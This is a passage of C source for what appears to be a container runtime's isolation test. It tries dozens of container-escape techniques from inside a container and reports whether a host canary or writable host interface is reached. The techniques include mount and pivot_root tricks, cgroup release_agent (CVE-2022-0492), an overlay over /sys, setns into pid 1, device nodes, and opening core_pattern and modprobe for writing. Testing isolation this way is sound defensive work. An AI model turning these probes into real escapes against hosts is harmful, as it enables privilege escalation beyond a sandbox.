// attack.c: what a hostile process tries that busybox has no applet for. test-attack-inside.sh builds it,
// attacks-inside.sh runs it in a container; a line for each try: `TAG NAME: ANSWER`.
//   attack all           every try of the table at the end
//   attack exe PID       the tries at /proc/PID/exe; of pid 1 before it is the command, that is the stub (src/stub.rs)
//   attack kept PID      says so when it has /proc/PID/exe open; once that is executed no more, the tries to write it
//   attack mark          marks of overlayfs on /attack.marked
//   attack tty           the tries to type into the terminal that is standard input
//   attack caps          the five sets of its own; for programs that are setuid or have file capabilities
//   attack key TEXT | read SERIAL | forget SERIAL | shm NUMBER | handle PATH | listen NAME   the host's canaries
//   attack as UID COMMAND...
//   attack hold FILE     from the host: says so when whoever executes FILE is held in his execve, until this is killed
//   attack into PID COMMAND...   from the host: as root in PID's user, mount and pid namespaces
// ANSWER is REACHED (the host was), harmless (the kernel allowed something that leads nowhere), absent (this kernel
// has not what is attacked) or the errno. No try harms a host that it reaches: files are opened for writing, not
// written, modes are set to what they were.
// From the environment: CANARY, a file of the host with SECRET in it; HANDLE, its directory as name_to_handle_at(2)
// has it; KEY, RING, SHM, ABSTRACT: what `key`, `shm` and `listen` have made.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <linux/magic.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

// mount(2) of the C library, whose header does not go with linux/mount.h
extern int mount(const char *, const char *, const char *, unsigned long, const void *);
extern int umount2(const char *, int);
enum { DETACH = 2 };

static const char SECRET[] = "the secret of the host";
#define M "/dev/shm/m" // a place to mount on, which every container has
enum { REACHED = 1, ABSENT = 2 };

static const char *value(const char *name) { const char *text = getenv(name); return text ? text : ""; }
static int gone(void) { return errno == ENOENT || errno == ENODEV || errno == ENOTDIR || errno == ENXIO ? ABSENT : -1; }

// ---------------------------------------------------------------- has the host been reached?

static int secret(const char *path) {
    char text[64] = "";
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    if (read(fd, text, sizeof text - 1) < 0) text[0] = 0;
    close(fd);
    return strstr(text, SECRET) != NULL;
}
static void up(char *path, const char *from) {
    strcpy(path, from);
    for (int i = 0; i < 60; i++) strcat(path, "../");
    strcat(path, value("CANARY") + 1);
}
static int look(const char *from) { // is the canary to be seen from there?
    char path[1024];
    snprintf(path, sizeof path, "%s%s", from, value("CANARY"));
    if (secret(path)) return 1;
    up(path, from);
    return secret(path);
}

static int is_on(const char *path, long magic, int writable) { // that kind of file system, and not read-only
    struct statfs fs;
    int fd = open(path, O_PATH | O_NOFOLLOW);
    if (fd < 0) return 0;
    int on = !fstatfs(fd, &fs) && fs.f_type == magic && (!writable || !(fs.f_flags & 1 /* ST_RDONLY */));
    close(fd);
    return on;
}
static const char *const MASKS[] = {"interrupts", "kcore", "keys", "latency_stats", "timer_list", "acpi", "asound", "scsi"};
static const char *const READ_ONLY[] = {"bus", "fs", "irq", "sys", "sys/kernel/core_pattern", "sysrq-trigger"};
static const char *const SYS_MASKS[] = {"firmware", "devices/virtual/powercap"};
static const char *seen; // what

static int bare_proc(const char *proc) { // without its masks
    static char path[256];
    for (size_t i = 0; i < sizeof MASKS / sizeof *MASKS; i++) {
        snprintf(path, sizeof path, "%s/%s", proc, MASKS[i]);
        if (is_on(path, PROC_SUPER_MAGIC, 0)) return seen = path, 1;
    }
    for (size_t i = 0; i < sizeof READ_ONLY / sizeof *READ_ONLY; i++) {
        snprintf(path, sizeof path, "%s/%s", proc, READ_ONLY[i]);
        if (is_on(path, PROC_SUPER_MAGIC, 1)) return seen = path, 1;
    }
    return 0;
}
static int bare_sys(const char *sys) {
    static char path[256];
    for (size_t i = 0; i < sizeof SYS_MASKS / sizeof *SYS_MASKS; i++) {
        snprintf(path, sizeof path, "%s/%s", sys, SYS_MASKS[i]);
        if (is_on(path, SYSFS_MAGIC, 0)) return seen = path, 1;
    }
    snprintf(path, sizeof path, "%s/kernel", sys);
    return is_on(path, SYSFS_MAGIC, 1) ? seen = path, 1 : 0;
}
static int own_cgroup(const char *dir) { // one that can be written: limits are lifted there
    static char path[256];
    if (!is_on(dir, CGROUP2_SUPER_MAGIC, 1) && !is_on(dir, CGROUP_SUPER_MAGIC, 1)) return 0;
    snprintf(path, sizeof path, "%s/cgroup.procs", dir);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    close(fd);
    return seen = path, 1;
}
static int volume_is_writable(void) {
    struct statfs fs;
    return !statfs("/attack", &fs) && !(fs.f_flags & 1) ? seen = "/attack", 1 : 0;
}
static int reached(void) {
    static const char *const procs[] = {"/proc", M, M "/proc", "proc"}, *const syses[] = {"/sys", M, M "/sys", "sys"};
    if (look("") || look("./")) return seen = "the canary", 1;
    for (int i = 0; i < 4; i++)
        if (bare_proc(procs[i]) || bare_sys(syses[i])) return 1;
    return volume_is_writable() || own_cgroup(M) || own_cgroup("/sys/fs/cgroup");
}

// ---------------------------------------------------------------- the way out

static int nothing(void) { return 0; }
static int chroot_out(void) {
    mkdir("/dev/shm/d", 0700);
    int fd = open(".", O_RDONLY);
    if (chroot("/dev/shm/d") || fchdir(fd)) return -1;
    for (int i = 0; i < 60; i++) if (chdir("..")) return -1;
    return chroot(".");
}
static int umount_root(void) { return umount2("/", 0); }
static int detach_root(void) { return umount2("/", DETACH); }
static int pivot(void) { return syscall(SYS_pivot_root, ".", "."); }
static int pivot_away(void) { // into a copy of the tree, and the old one is detached
    return mount("/", M, NULL, MS_BIND, NULL) || chdir(M) || syscall(SYS_pivot_root, ".", ".") || umount2(".", DETACH) ||
        mount("p", "/proc", "proc", 0, NULL) ? -1 : 0;
}
static int move_root(void) { return mount("/", M, NULL, MS_MOVE, NULL); }
static int bind_root(void) { return mount("/", M, NULL, MS_BIND, NULL); }
static int rbind_root(void) { return mount("/", M, NULL, MS_BIND | MS_REC, NULL); }
static int share_root(void) { return mount("", "/", NULL, MS_REC | MS_SHARED, NULL); }
static int remount_root(void) { return mount("", "/", NULL, MS_REMOUNT, NULL); }

// Each mount of this namespace, the last first; the try goes on until one reaches something.
static int each_mount(int (*try)(const char *)) {
    static char points[256][256];
    char line[4096];
    int count = 0, done = -1, error = EPERM;
    FILE *file = fopen("/proc/self/mountinfo", "r");
    while (file && count < 256 && fgets(line, sizeof line, file))
        if (sscanf(line, "%*s %*s %*s %*s %255s", points[count]) == 1 && strcmp(points[count], "/") != 0) count++;
    if (file) fclose(file);
    while (count-- > 0) {
        int fd = open(points[count], O_PATH | O_NOFOLLOW);
        if (fd < 0) continue; // below what has gone by now
        close(fd);
        if (try(points[count]) == 0) {
            done = 0;
            if (reached()) return REACHED;
        } else if (errno != EBUSY)
            error = errno;
    }
    errno = error;
    return done;
}
static int detach(const char *point) { return strncmp(point, "/dev/shm", 8) ? umount2(point, DETACH) : -1; }
static int detach_all(void) { return each_mount(detach); }
static int expire(const char *point) { return umount2(point, 4) && errno == EAGAIN ? umount2(point, 4) : -1; }
static int expire_all(void) { return each_mount(expire); }
static int move_away(const char *point) {
    struct stat at;
    if (stat(point, &at) || !strncmp(point, "/dev/shm", 8)) return -1;
    int file = S_ISDIR(at.st_mode) ? -1 : open("/dev/shm/f", O_CREAT | O_RDONLY, 0600);
    if (file >= 0) close(file);
    return mount(point, S_ISDIR(at.st_mode) ? M : "/dev/shm/f", NULL, MS_MOVE, NULL);
}
static int move_all(void) { return each_mount(move_away); }
static int make_writable(const char *point) { return mount("", point, NULL, MS_REMOUNT | MS_BIND, NULL); }
static int writable_all(void) { return each_mount(make_writable); }
static int remount_super(const char *point) { return mount("", point, NULL, MS_REMOUNT, NULL); }
static int remount_super_all(void) { return each_mount(remount_super); }
static int set_writable(const char *point) {
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NODEV | MOUNT_ATTR_NOSUID};
    return syscall(SYS_mount_setattr, AT_FDCWD, point, AT_RECURSIVE, &attr, sizeof attr);
}
static int setattr_all(void) { return each_mount(set_writable) && set_writable("/") ? -1 : 0; }
static int beneath(const char *point) { // Linux 6.5: a mount of ours below the mask, and the mask goes
    int tree = syscall(SYS_open_tree, AT_FDCWD, point, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    if (tree < 0) return -1;
    int moved = syscall(SYS_move_mount, tree, "", AT_FDCWD, point, 0x204 /* BENEATH, F_EMPTY_PATH */);
    if (!moved) umount2(point, DETACH), umount2(point, DETACH);
    return moved;
}
static int beneath_all(void) { return each_mount(beneath); }

static int bind_proc(void) { return mount("/proc", M, NULL, MS_BIND, NULL); } // without the masks
static int bind_sys(void) { return mount("/sys", M, NULL, MS_BIND, NULL); }
static int rbind_proc(void) { // with them, and off they go
    if (mount("/proc", M, NULL, MS_BIND | MS_REC, NULL)) return -1;
    char path[256];
    for (size_t i = 0; i < sizeof MASKS / sizeof *MASKS; i++) {
        snprintf(path, sizeof path, M "/%s", MASKS[i]);
        umount2(path, DETACH);
    }
    umount2(M "/sys", DETACH);
    return 0;
}
static int tree_of(const char *path, unsigned flags) {
    int tree = syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE | flags);
    if (tree < 0) return -1;
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH | AT_RECURSIVE, &attr, sizeof attr);
    return syscall(SYS_move_mount, tree, "", AT_FDCWD, M, MOVE_MOUNT_F_EMPTY_PATH);
}
static int tree_proc(void) { return tree_of("/proc", 0); }
static int tree_proc_sys(void) { return tree_of("/proc/sys", 0); }
static int tree_proc_all(void) { return tree_of("/proc", AT_RECURSIVE); }
static int tree_sys(void) { return tree_of("/sys", 0); }
static int tree_unattached(void) { // looked into without being mounted anywhere
    int tree = syscall(SYS_open_tree, AT_FDCWD, "/proc", OPEN_TREE_CLONE);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
    return tree < 0 ? -1 : bare_proc(path) ? REACHED : 0;
}

static int new_kind(const char *kind, const char *options) { return mount("new", M, kind, 0, options); }
static int new_proc(void) { return new_kind("proc", ""); }
static int new_proc_pids(void) { return new_kind("proc", "subset=pid"); }
static int new_sysfs(void) { return new_kind("sysfs", ""); }
static int new_cgroup2(void) { return new_kind("cgroup2", ""); }
static int in_new(int namespaces, int (*try)(void)) { // by a child in them: a pid namespace begins with the next one
    if (unshare(namespaces)) return -1;
    pid_t pid = fork();
    if (pid == 0) {
        int answer = try();
        _exit(answer == REACHED || (answer == 0 && reached()) ? 0 : 1 + (answer < 0 ? errno : 0));
    }
    int status;
    waitpid(pid, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 0) return REACHED;
    errno = WEXITSTATUS(status) - 1;
    return errno ? -1 : 0;
}
static int nested_proc(void) { return in_new(CLONE_NEWPID | CLONE_NEWNS, new_proc); }
static int proc_on_proc(void) { return mount("p", "/proc", "proc", 0, NULL); }
static int nested_over_proc(void) { return in_new(CLONE_NEWPID | CLONE_NEWNS, proc_on_proc); }
static int nested_sysfs(void) { return in_new(CLONE_NEWNET | CLONE_NEWNS, new_sysfs); }
static int nested_cgroup2(void) { return in_new(CLONE_NEWCGROUP | CLONE_NEWNS, new_cgroup2); }
static int detached_proc(void) { // umount -l /proc, then one of its own
    int gone = umount2("/proc", DETACH);
    return mount("p", "/proc", "proc", 0, NULL) ? gone : 0;
}
static int cgroup1(const char *options) {
    if (new_kind("cgroup", options)) return -1;
    int fd = open(M "/release_agent", O_WRONLY); // CVE-2022-0492
    return fd >= 0 ? REACHED : 0;
}
static int release_agent(void) { // of each controller of version 1, and a new hierarchy
    static const char *const kinds[] = {"none,name=attack", "none,name=systemd", "rdma", "misc", "pids", "memory", "devices", "cpuset", "freezer", "cpu", "net_cls"};
    int answer = -1;
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        int one = cgroup1(kinds[i]);
        if (one == REACHED || (one == 0 && own_cgroup(M))) return umount2(M, DETACH), REACHED;
        if (one == 0) answer = 0, umount2(M, DETACH);
    }
    if (answer < 0) errno = access("/proc/cgroups", F_OK) ? ENOENT : EPERM;
    return answer;
}
static int open_fs(void) {
    int fs = syscall(SYS_fsopen, "proc", 0);
    if (fs < 0 || syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0)) return -1;
    int made = syscall(SYS_fsmount, fs, 0, 0);
    return made < 0 ? -1 : syscall(SYS_move_mount, made, "", AT_FDCWD, M, MOVE_MOUNT_F_EMPTY_PATH);
}
static int pick_fs(void) { // the instance that is mounted, without what is mounted on it
    int fs = syscall(SYS_fspick, AT_FDCWD, "/proc", 0);
    if (fs < 0) return -1;
    return syscall(SYS_fsconfig, fs, FSCONFIG_SET_FLAG, "rw", NULL, 0) | syscall(SYS_fsconfig, fs, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0);
}
static int overlay_sys(void) { // CVE-2021-3732: the tree below the masks
    mkdir("/dev/shm/d", 0700);
    if (mount("o", M, "overlay", 0, "lowerdir=/sys:/dev/shm/d")) return -1;
    return open(M "/firmware", O_RDONLY) >= 0 ? REACHED : 0;
}
static int other_kinds(void) { // all that the kernel has: what may be mounted in a user namespace, and what not
    static const char harmless[] = " tmpfs ramfs proc sysfs devpts mqueue overlay fuse bpf binfmt_misc fuseblk aufs shiftfs ";
    char line[128], kind[64], word[70];
    FILE *file = fopen("/proc/filesystems", "r");
    int answer = -1;
    while (file && fgets(line, sizeof line, file)) {
        if (sscanf(line, "nodev %63s", kind) != 1) continue;
        snprintf(word, sizeof word, " %s ", kind);
        if (new_kind(kind, "")) continue;
        int known = strstr(harmless, word) != NULL;
        umount2(M, DETACH);
        if (!known) return seen = strdup(kind), REACHED;
        answer = 0;
    }
    errno = EPERM;
    return answer;
}

static int user_namespace(void) { return unshare(CLONE_NEWUSER) ? -1 : REACHED; }
static int user_and_all(void) { return unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET) ? -1 : REACHED; }
static int clone_user(void) {
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, NULL);
    if (pid == 0) _exit(0);
    return pid < 0 ? -1 : REACHED;
}
static int clone3_user(void) {
    struct { unsigned long long flags, pidfd, child, parent, signal, rest[6]; } args = {.flags = CLONE_NEWUSER, .signal = SIGCHLD};
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) _exit(0);
    return pid < 0 ? -1 : REACHED;
}
static int mount_namespace(void) { return unshare(CLONE_NEWNS) || umount2("/", DETACH) ? -1 : 0; }
static int set_namespace(const char *path, int kind) {
    int fd = open(path, O_RDONLY);
    return fd < 0 ? -1 : setns(fd, kind);
}
static int setns_mnt(void) { return set_namespace("/proc/1/ns/mnt", CLONE_NEWNS); }
static int setns_all(void) { return set_namespace("/proc/1/ns/user", CLONE_NEWUSER) & set_namespace("/proc/1/ns/pid", CLONE_NEWPID) & set_namespace("/proc/1/ns/net", CLONE_NEWNET); }
static int setns_pidfd(void) {
    int fd = syscall(SYS_pidfd_open, 1, 0);
    return fd < 0 ? -1 : setns(fd, CLONE_NEWNS);
}
static int parents(unsigned long what) { // the namespaces above: ioctl_ns(2)
    static const char *const kinds[] = {"user", "pid", "mnt", "net", "uts", "ipc", "cgroup"};
    char path[64];
    int answer = -1, error = 0;
    for (int i = 0; i < 7; i++) {
        snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[i]);
        int own = open(path, O_RDONLY), above = own;
        while ((above = ioctl(above, what)) >= 0) {
            answer = 0;
            if (!setns(above, 0) && look("")) return REACHED;
        }
        if (errno != EINVAL && errno != ENOTTY) error = errno;
    }
    errno = error ? error : EINVAL;
    return answer;
}
static int owners(void) { return parents(0xb701 /* NS_GET_USERNS */); }
static int ancestors(void) { return parents(0xb702 /* NS_GET_PARENT */); }
static int detach_and_enter(void) { // setns(2) goes to the root of the namespace: what had been below
    int fd = open("/proc/self/ns/mnt", O_RDONLY);
    return umount2("/", DETACH) || setns(fd, CLONE_NEWNS) ? -1 : 0;
}
static int roots(void) { // of every process that is seen
    static const char *const places[] = {"root", "cwd", "exe/..", "task/1/root"};
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));)
        for (int i = 0; i < 4 && isdigit(*entry->d_name); i++) {
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/%s/", entry->d_name, places[i]);
            if (look(path)) return REACHED;
        }
    return 0;
}
static int descriptors(void) { // of every process, what leads out
    char path[300];
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));)
        for (int i = 0; i < 64 && isdigit(*entry->d_name); i++) {
            snprintf(path, sizeof path, "/proc/%s/fd/%d/", entry->d_name, i);
            if (look(path)) return REACHED;
        }
    return 0;
}
static int volume_up(void) { return look("/attack/") ? REACHED : 0; }
static int volume_again(void) { // bound elsewhere, and that one writable
    if (mount("/attack", M, NULL, MS_BIND, NULL)) return -1;
    make_writable(M), set_writable(M);
    int fd = open(M "/attacks-inside.sh", O_WRONLY);
    return fd >= 0 ? REACHED : 0;
}
static int read_only_root(void) {
    struct statfs fs;
    if (statfs("/", &fs) || !(fs.f_flags & 1)) return ABSENT;
    int done = make_writable("/") && set_writable("/") ? -1 : 0;
    return !statfs("/", &fs) && !(fs.f_flags & 1) ? REACHED : done;
}
static int by_handle(void) { // the canary's directory lies on the file system of the volume
    struct { struct file_handle head; unsigned char bytes[128]; } handle = {0};
    const char *hex = value("HANDLE");
    static const char *const places[] = {"/attack", "/", "/dev/null", "/etc/hosts", "/dev/shm", "/proc/1/exe"};
    unsigned kind = 0, byte;
    if (sscanf(hex, "%x:", &kind) != 1) return ABSENT; // that file system has no handles
    handle.head.handle_type = kind;
    for (hex = strchr(hex, ':') + 1; sscanf(hex, "%2x", &byte) == 1; hex += 2) handle.bytes[handle.head.handle_bytes++] = byte;
    int answer = -1;
    for (int i = 0; i < 6; i++) {
        int at = open(places[i], O_RDONLY);
        int dir = open_by_handle_at(at, &handle.head, O_RDONLY | O_DIRECTORY);
        if (dir < 0) continue;
        answer = 0;
        if (fchdir(dir) == 0 && secret("secret")) return REACHED;
    }
    return answer;
}
static int node(int kind, int major, int minor) {
    const char *path = "/tmp/attack.node";
    unlink(path);
    if (mknod(path, kind | 0666, makedev(major, minor))) return -1;
    int fd = open(path, O_RDONLY);
    int answer = fd >= 0 ? REACHED : gone();
    unlink(path);
    return answer;
}
static int disk_node(void) { // the first that the kernel has
    char line[128];
    int major, minor, answer = ABSENT;
    FILE *file = fopen("/proc/partitions", "r");
    while (file && answer == ABSENT && fgets(line, sizeof line, file))
        if (sscanf(line, "%d %d", &major, &minor) == 2) answer = node(S_IFBLK, major, minor);
    if (file) fclose(file);
    return answer;
}
static int memory_node(void) { return node(S_IFCHR, 1, 1); }
static int kmsg_node(void) { return node(S_IFCHR, 1, 11); }
static int tmpfs_node(void) {
    if (new_kind("tmpfs", "")) return -1;
    if (mknod(M "/kmsg", S_IFCHR | 0600, makedev(1, 11))) return -1;
    return open(M "/kmsg", O_RDONLY) >= 0 ? REACHED : -1;
}

// ---------------------------------------------------------------- the host's devices, files of /proc, sysctls

static int same_mode(const char *path) { // as it is: whoever may set it may set any
    struct stat at;
    if (stat(path, &at)) return ABSENT;
    if (!chmod(path, at.st_mode & 07777)) return REACHED;
    return !chown(path, at.st_uid, at.st_gid) || !setxattr(path, "trusted.attack", "", 0, XATTR_REPLACE) ? REACHED : -1;
}
static int device_modes(void) {
    static const char *const names[] = {"null", "zero", "full", "random", "urandom", "tty"};
    for (int i = 0; i < 6; i++) {
        char path[32];
        snprintf(path, sizeof path, "/dev/%s", names[i]);
        if (same_mode(path) == REACHED) return seen = names[i], REACHED;
    }
    return -1;
}
static int mask_modes(void) { // a mask is a device, too
    for (size_t i = 0; i < sizeof MASKS / sizeof *MASKS; i++) {
        char path[64];
        struct stat at;
        snprintf(path, sizeof path, "/proc/%s", MASKS[i]);
        if (!stat(path, &at) && S_ISCHR(at.st_mode) && same_mode(path) == REACHED) return seen = MASKS[i], REACHED;
    }
    return -1;
}
static int open_for_writing(const char *path) {
    int fd = open(path, O_WRONLY);
    return fd >= 0 ? REACHED : gone();
}
static int core_pattern(void) { return open_for_writing("/proc/sys/kernel/core_pattern"); }
static int modprobe(void) { return open_for_writing("/proc/sys/kernel/modprobe"); }
static int namespaces_max(void) { return open_for_writing("/proc/sys/user/max_user_namespaces"); }
static int sysrq(void) { return open_for_writing("/proc/sysrq-trigger"); }
static int uevent_helper(void) { return open_for_writing("/sys/kernel/uevent_helper"); }
// Every file below takes a write of no bytes, or has nothing that could write.
static int writable_below(int at, const char *name, int depth) {
    int dir_fd = openat(at, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
    struct statfs fs;
    if (dir_fd >= 0 && !fstatfs(dir_fd, &fs) && fs.f_flags & 1 /* ST_RDONLY */) { // nothing in it is
        close(dir_fd);
        return 0;
    }
    DIR *dir = dir_fd < 0 ? NULL : fdopendir(dir_fd);
    int found = 0;
    for (struct dirent *entry; dir && !found && (entry = readdir(dir));) {
        if (depth == 0 && (isdigit(*entry->d_name) || !strcmp(entry->d_name, "pressure"))) continue; // its own; psi(5)
        if (entry->d_type == DT_DIR && *entry->d_name != '.') found = writable_below(dir_fd, entry->d_name, depth + 1);
        if (entry->d_type != DT_REG) continue;
        int fd = openat(dir_fd, entry->d_name, O_WRONLY | O_NOFOLLOW | O_CLOEXEC);
        struct stat at;
        if (fd < 0) continue;
        if (fstat(fd, &at) || !S_ISREG(at.st_mode)) { // a mask
            close(fd);
            continue;
        }
        if (write(fd, "", 0) == 0 || (errno != EIO && errno != EBADF && errno != EPERM)) found = 1, seen = strdup(entry->d_name);
        close(fd);
    }
    if (dir) closedir(dir);
    return found;
}
static int proc_files(void) { return writable_below(AT_FDCWD, "/proc", 0) ? REACHED : 0; }
static int sys_files(void) { return writable_below(AT_FDCWD, "/sys", 1) ? REACHED : 0; }
static int one_byte(const char *path) {
    char byte;
    int fd = open(path, O_RDONLY);
    return fd < 0 ? gone() : read(fd, &byte, 1) == 1 ? REACHED : 0;
}
static int kcore(void) { return one_byte("/proc/kcore"); }
static int keys(void) { return one_byte("/proc/keys"); }
static int timers(void) { return one_byte("/proc/timer_list"); }
static int kmsg(void) { return one_byte("/proc/kmsg"); }
static int map_files(void) { // of the first process: they are opened by those who may checkpoint the machine alone
    DIR *dir = opendir("/proc/1/map_files");
    for (struct dirent *entry; dir && (entry = readdir(dir));) {
        char path[300];
        snprintf(path, sizeof path, "/proc/1/map_files/%s", entry->d_name);
        if (*entry->d_name != '.' && open(path, O_RDONLY) >= 0) return REACHED;
    }
    return -1;
}
static int module(void) { return syscall(SYS_init_module, NULL, 0, "") < 0 && (errno == EPERM || errno == ENOSYS) ? -1 : REACHED; }
static int kexec(void) { return syscall(SYS_kexec_load, 0, 0, NULL, 0) ? -1 : REACHED; }
static int swap(void) { return syscall(SYS_swapoff, "/dev/shm/none") < 0 && (errno == EPERM || errno == ENOSYS) ? -1 : REACHED; }
static int ports(void) {
#ifdef SYS_iopl
    return syscall(SYS_iopl, 3) ? -1 : REACHED;
#else
    return ABSENT;
#endif
}

// ---------------------------------------------------------------- what is the host's, and has no place in a tree

static int abstract(void) {
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    strncpy(name.sun_path + 1, value("ABSTRACT"), sizeof name.sun_path - 2);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return connect(fd, (void *)&name, sizeof(sa_family_t) + 1 + strlen(name.sun_path + 1)) ? -1 : REACHED;
}
static int shared_memory(void) { return shmget(atoi(value("SHM")), 1, 0) < 0 ? -1 : REACHED; }
static int signals(void) { // one that nobody minds; the test's process counts them
    for (int pid = 1; pid < 4096; pid++) kill(pid, SIGURG);
    return 0; // the test looks whether it came
}
static int read_key(long serial) {
    char text[64] = "";
    long length = syscall(SYS_keyctl, KEYCTL_READ, serial, text, sizeof text - 1);
    return length < 0 ? -1 : strstr(text, SECRET) ? REACHED : 0;
}
static int key(void) { return read_key(atol(value("KEY"))); }
static int key_search(void) {
    long found = syscall(SYS_keyctl, KEYCTL_SEARCH, atol(value("RING")), "user", "mydocker-canary", 0);
    return found < 0 ? -1 : read_key(found);
}
static int key_link(void) { // the host's keyring in one's own: then what is in it is possessed
    if (syscall(SYS_keyctl, KEYCTL_LINK, atol(value("RING")), KEY_SPEC_SESSION_KEYRING)) return -1;
    return read_key(atol(value("KEY")));
}
static int key_special(void) { // @s, @u, @us as they are here
    for (int ring = -3; ring > -6; ring--) {
        long found = syscall(SYS_keyctl, KEYCTL_SEARCH, ring, "user", "mydocker-canary", 0);
        if (found >= 0 && read_key(found) == REACHED) return REACHED;
    }
    return syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, -4, 0) < 0 ? -1 : 0;
}

// ---------------------------------------------------------------- calls that docker's filter shuts

static int opened(long fd) { return fd < 0 ? -1 : REACHED; }
static int add(void) { return opened(syscall(SYS_add_key, "user", "attack", "x", 1, KEY_SPEC_PROCESS_KEYRING)); }
static int request(void) { return syscall(SYS_request_key, "user", "attack", NULL, KEY_SPEC_PROCESS_KEYRING) < 0 && errno != ENOKEY ? -1 : REACHED; }
static int keyring(void) { return opened(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0)); }
static int bpf(void) {
    struct { unsigned type, key, value, entries; } map = {2, 4, 4, 1};
    return opened(syscall(SYS_bpf, 0, &map, sizeof map));
}
static int perf(void) {
    struct { unsigned type, size; unsigned long long config, rest[14]; } attr = {.type = 1, .size = 64};
    return opened(syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0));
}
static int faults(void) { return opened(syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */)); }
static int uring(void) {
    char params[120] = "";
    return opened(syscall(SYS_io_uring_setup, 1, params));
}
static int vsock(void) { return opened(socket(AF_VSOCK, SOCK_STREAM, 0)); }
static int kernel_log(void) {
    char text[64];
    return syscall(SYS_syslog, 3, text, sizeof text) < 0 ? -1 : REACHED;
}
static int handle_of(void) {
    struct file_handle handle = {0};
    return open_by_handle_at(AT_FDCWD, &handle, O_RDONLY) < 0 && (errno == EPERM || errno == ENOSYS) ? -1 : REACHED;
}

// ---------------------------------------------------------------- capabilities

static unsigned long long set_of(const char *name) {
    char line[128];
    unsigned long long set = 0;
    FILE *file = fopen("/proc/self/status", "r");
    while (file && fgets(line, sizeof line, file))
        if (!strncmp(line, name, strlen(name))) set = strtoull(strchr(line, ':') + 1, NULL, 16);
    if (file) fclose(file);
    return set;
}
// ---------------------------------------------------------------- marks of overlayfs

static int mark(const char *name) {
    mkdir("/attack.marked", 0755);
    return setxattr("/attack.marked", name, "/", 1, 0) ? -1 : REACHED;
}
static int mark_trusted(void) { return mark("trusted.overlay.redirect"); }
static int mark_user(void) { // the test looks what has become of them in the store
    static const char *const names[] = {"redirect", "opaque", "metacopy", "origin", "whiteout", "upper", "impure"};
    char name[64];
    int answer = -1;
    for (int i = 0; i < 7; i++) {
        snprintf(name, sizeof name, "user.overlay.%s", names[i]);
        if (mark(name) == REACHED) answer = 0;
    }
    return answer;
}

static const struct { const char *tag, *name; int (*try)(void); } TRIES[] = {
    {"leave", "nothing at all", nothing}, {"leave", "chroot, fchdir and ..", chroot_out}, {"leave", "umount /", umount_root},
    {"leave", "umount -l /", detach_root}, {"leave", "pivot_root . .", pivot}, {"leave", "pivot_root into a bind of /", pivot_away},
    {"leave", "mount --move /", move_root}, {"leave", "mount --bind /", bind_root}, {"leave", "mount --rbind /", rbind_root},
    {"leave", "mount --make-rshared /", share_root}, {"leave", "remount /", remount_root},
    {"leave", "umount -l of each mount", detach_all}, {"leave", "MNT_EXPIRE of each mount", expire_all},
    {"leave", "mount --move of each mount", move_all}, {"leave", "remount,bind,rw of each mount", writable_all},
    {"leave", "remount,rw of each file system", remount_super_all}, {"leave", "mount_setattr of each mount", setattr_all},
    {"leave", "MOVE_MOUNT_BENEATH each mount", beneath_all}, {"leave", "mount --bind /proc", bind_proc},
    {"leave", "mount --bind /sys", bind_sys}, {"leave", "mount --rbind /proc, umount -l of the masks in it", rbind_proc},
    {"leave", "open_tree and move_mount of /proc", tree_proc}, {"leave", "open_tree and move_mount of /proc/sys", tree_proc_sys},
    {"leave", "open_tree and move_mount of /proc, recursive", tree_proc_all}, {"leave", "open_tree and move_mount of /sys", tree_sys},
    {"leave", "open_tree of /proc, left unattached", tree_unattached}, {"leave", "a new proc", new_proc},
    {"leave", "a new proc, subset=pid", new_proc_pids}, {"leave", "a new proc in a nested pid namespace", nested_proc},
    {"leave", "a new proc on /proc", nested_over_proc}, {"leave", "umount -l /proc and a new one", detached_proc},
    {"leave", "fsopen proc", open_fs}, {"leave", "fspick /proc", pick_fs}, {"leave", "a new sysfs", new_sysfs},
    {"leave", "a new sysfs in a nested network namespace", nested_sysfs}, {"leave", "an overlay of /sys (CVE-2021-3732)", overlay_sys}, {"leave", "every kind of file system", other_kinds},
    {"leave", "unshare a user namespace", user_namespace}, {"leave", "unshare it with others", user_and_all},
